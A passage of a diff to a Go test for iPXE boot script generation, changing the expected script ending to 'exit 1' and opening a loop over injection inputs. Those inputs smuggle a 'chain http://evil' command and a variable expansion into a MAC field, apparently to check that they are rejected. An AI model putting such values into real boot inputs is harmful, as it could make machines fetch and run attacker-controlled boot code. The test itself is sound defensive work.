@@ -231,7 +231,7 @@ func TestIPXEScripts(t *testing.T) {
 		}
 	}
 	lb := string(r.LocalBoot(n))
-	for _, want := range []string{"#!ipxe\n", "iseq ${platform} efi", "sanboot --no-describe --drive 0x80", "\nexit\n"} {
+	for _, want := range []string{"#!ipxe\n", "iseq ${platform} efi", "sanboot --no-describe --drive 0x80", "\nexit 1\n"} {
 		if !strings.Contains(lb, want) {
 			t.Errorf("local boot lacks %q:\n%s", want, lb)
 		}
@@ -240,7 +240,7 @@ func TestIPXEScripts(t *testing.T) {
 		t.Errorf("local boot must not load a kernel:\n%s", lb)
 	}
 	um := string(r.UnknownMAC("52-54-00-AB-CD-EF"))
-	if !strings.Contains(um, "MAC 52:54:00:ab:cd:ef") || !strings.HasSuffix(um, "exit\n") {
+	if !strings.Contains(um, "MAC 52:54:00:ab:cd:ef") || !strings.HasSuffix(um, "\nexit 1\n") {
 		t.Errorf("unknown MAC script:\n%s", um)
 	}
 	for _, evil := range []string{"'; chain http://evil/x", "aa:bb\nchain http://evil", "${x}"} {
